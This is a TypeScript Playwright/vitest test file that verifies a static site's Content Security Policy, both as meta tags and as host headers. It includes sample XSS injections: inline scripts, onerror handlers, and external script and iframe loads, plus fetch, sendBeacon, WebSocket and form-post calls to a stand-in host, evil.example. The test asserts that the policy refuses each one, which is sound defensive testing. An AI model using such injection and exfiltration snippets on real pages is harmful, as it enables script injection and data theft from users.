import { readFileSync } from 'node:fs';
import type { Page, Route } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { securityHeaders } from '#publish/policy/host-headers.ts';
import { expectNone } from './support/findings.ts';
import { journeys } from './support/journeys.ts';
import { watchForLeftOutStyle } from './support/left-out-style.ts';
import { all, pages, place } from './support/pages.ts';
import { heaviestOfEachKind } from './support/sample.ts';
import { at, onOnePage, useBrowser, wide } from './support/visit.ts';
import { nothing, watch } from './support/watch.ts';

useBrowser();

const origin = () => new URL(inject('belowPath')).origin;

describe('the policy in the pages', () => {
  it('is in every page before anything that it governs', () => {
    expect(pages.length).toBeGreaterThan(90);
    expectNone(
      pages.flatMap((page) => {
        const inHead = all(page, 'head > *');
        const [charset, policy] = inHead;
        const good = charset?.properties['charSet'] && String(policy?.properties['httpEquiv']) === 'content-security-policy';
        const again = all(page, 'meta[http-equiv=content-security-policy]').length > 1;
        return [!good && 'has no policy right behind its character set', again && 'has two policies']
          .filter(Boolean)
          .map((fault) => `${place(page)}: ${fault}`);
      }),
    );
  });

  it('finds nothing to refuse in the markup: no style and no event attributes, no javascript: link', () => {
    expectNone(
      pages.flatMap((page) =>
        all(page, '*').flatMap(({ tagName, properties }) =>
          Object.entries(properties)
            .filter(
              ([name, value]) => name === 'style' || name === 'srcDoc' || /^on[A-Z]/.test(name) || /^\s*javascript:/i.test(String(value)),
            )
            .map(([name]) => `${place(page)}: <${tagName} ${name}>`),
        ),
      ),
    );
  });

  it('names no origin and allows no inline code but by its hash', () => {
    const policies = pages.map((page) => String(all(page, 'meta[http-equiv=content-security-policy]')[0]?.properties['content']));
    for (const policy of policies) {
      expect(policy).not.toMatch(/'unsafe-|https?:|\*/);
      expect(policy).toMatch(/default-src 'none';script-src 'self'/);
    }
  });

  it('comes as headers too, for hosts that read a file of them', () => {
    expect(readFileSync('dist/_headers', 'utf8')).toContain(securityHeaders['Content-Security-Policy']);
  });
});

describe('under the policy', () => {
  // Of the rest the markup above is enough, and `first-visit.test.ts` finds whatever a browser refuses among its errors.
  it('a page of each kind opens below a path, finds all it asks for, and has no violation, no error, no cookie and no request to elsewhere', async () => {
    await onOnePage({ viewport: wide }, async (tab) => {
      const watched = await watch(tab, origin());
      for (const { address } of heaviestOfEachKind) await tab.goto(at(address), { waitUntil: 'load' });
      expect(watched).toEqual(nothing);
      expect(await tab.context().cookies()).toEqual([]);
    });
  });

  it('the page for wrong addresses does too', async () => {
    await onOnePage({ viewport: wide }, async (tab) => {
      const watched = await watch(tab, new URL(inject('atRoot')).origin);
      await tab.goto(`${inject('atRoot')}/not/there/`, { waitUntil: 'load' });
      expect(await tab.locator('h1').isVisible()).toBe(true);
      expect([watched.refused, watched.ran, watched.elsewhere]).toEqual([[], [], []]);
    });
  });

  // With the headers of a host as well, where both rule, what both allow works under either.
  const withHeaders = ['searching', 'putting a group on the board', 'reading codes with the camera'];
  it.each(Object.entries(journeys))('%s works without any, and misses no style', async (name, journey) => {
    await onOnePage({ viewport: wide, acceptDownloads: true }, async (tab) => {
      const watched = await watch(tab, origin());
      const unstyled = await watchForLeftOutStyle(tab);
      if (withHeaders.includes(name)) await addHeaders(tab);
      await journey(tab);
      expectNone(unstyled);
      expect(watched).toEqual(nothing);
      expect(await tab.context().cookies()).toEqual([]);
    });
  });
  it('the journeys with the headers of a host are among them', () =>
    expect(Object.keys(journeys)).toEqual(expect.arrayContaining(withHeaders)));
});

/** Answers with the headers that a host which reads a file of them sends. */
const addHeaders = (tab: Page) =>
  tab.route('**/*', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), ...securityHeaders } });
  });

describe('whatever gets into a page', () => {
  /** Each would call `ranInside` if it could; behind it, the directive that stops it. */
  const brought: [directive: string, markup: string][] = [
    ['script-src-elem', '<script>ranInside("inline")</script>'],
    ['script-src-elem', '<script type="module">ranInside("module")</script>'],
    ['script-src-elem', '<script src="https://evil.example/x.js"></script>'],
    ['script-src-elem', '<script src="data:text/javascript,ranInside(1)"></script>'],
    ['script-src-attr', '<img src="favicon-not-there.svg" onerror="ranInside(\'error\')">'],
    ['script-src-attr', '<svg onload="ranInside(\'svg\')"></svg>'],
    ['style-src-attr', '<p style="background:red">'],
    ['style-src-elem', '<style>*{display:none}</style>'],
    ['style-src-elem', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['img-src', '<img src="https://evil.example/x.png">'],
    ['frame-src', '<iframe src="https://evil.example/"></iframe>'],
    ['frame-src', '<iframe srcdoc="&lt;script&gt;parent.ranInside(2)&lt;/script&gt;" src="data:text/html,x"></iframe>'],
    ['object-src', '<object data="https://evil.example/x.swf"></object>'],
    ['base-uri', '<base href="https://evil.example/">'],
    ['media-src', '<video src="https://evil.example/x.mp4"></video>'],
  ];
  const withMarkup = (markup: string) => async (route: Route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('</main>', () => `${markup}</main>`) });
  };

  it('does not run, load or change how the page looks', async () => {
    await onOnePage({ viewport: wide }, async (tab) => {
      const watched = await watch(tab, origin());
      await tab.route(at('/privacy/'), withMarkup(brought.map(([, markup]) => markup).join('\n')));
      await tab.goto(at('/privacy/'), { waitUntil: 'load' });
      expect(watched.ran).toEqual([]);
      expect(await tab.locator('h1').isVisible()).toBe(true);
      expect(await tab.evaluate(() => document.baseURI)).toBe(at('/privacy/'));
      const seen = new Set(watched.refused.map((what) => what.split(' ')[1]));
      for (const [directive] of brought) expect(seen).toContain(directive);
    });
  });

  /** Each would get something in or out if it could; before it, the directive that stops it. */
  const acts: [directive: string, what: string, act: () => unknown][] = [
    ['connect-src', 'fetch', () => fetch('https://evil.example/?note')],
    ['connect-src', 'beacon', () => navigator.sendBeacon('https://evil.example/', 'note')],
    ['connect-src', 'socket', () => void new WebSocket('wss://evil.example/')],
    [
      'require-trusted-types-for',
      'innerHTML',
      () => {
        document.body.innerHTML = '<b>x</b>';
      },
    ],
    [
      'require-trusted-types-for',
      'script text',
      () => {
        document.head.append(Object.assign(document.createElement('script'), { text: 'ranInside(3)' }));
      },
    ],
    ['require-trusted-types-for', 'worker', () => void new Worker('https://evil.example/w.js')],
    [
      'trusted-types',
      'a policy of its own',
      () =>
        void (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
          'evil',
          {},
        ),
    ],
    [
      'form-action',
      'a form',
      () => {
        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'script-src-elem',
      'a javascript: link',
      () => {
        const link = Object.assign(document.createElement('a'), { href: 'javascript:ranInside(4)' });
        document.body.append(link);
        link.click();
      },
    ],
  ];

  it('is stopped when a script of ours is led to it, and runs nowhere as text of `eval`', async () => {
    await onOnePage({}, async (tab) => {
      const watched = await watch(tab, origin());
      await tab.goto(at('/privacy/'));
      // All on one page, which none of them may take away.
      await tab.evaluate(() => Object.assign(window, { neverLeft: true }));
      for (const [directive, what, act] of acts) {
        watched.refused.length = 0;
        await tab.evaluate(act).catch(() => {});
        await expect.poll(() => watched.refused.map((refused) => refused.split(' ')[1]), { message: what }).toEqual([directive]);
      }
      const refused = await tab.evaluate(
        () =>
          new Promise((told) => {
            document.addEventListener('securitypolicyviolation', () => told(true));
            setTimeout(() => {
              try {
                // oxlint-disable-next-line no-eval -- that the policy refuses this is what is asked
                (0, eval)('ranInside(5)');
                told(false);
              } catch {
                told(true);
              }
            });
          }),
      );
      expect(refused).toBe(true);
      expect([watched.ran, watched.elsewhere]).toEqual([[], []]);
      expect(await tab.evaluate(() => 'neverLeft' in window)).toBe(true);
    });
  });
});
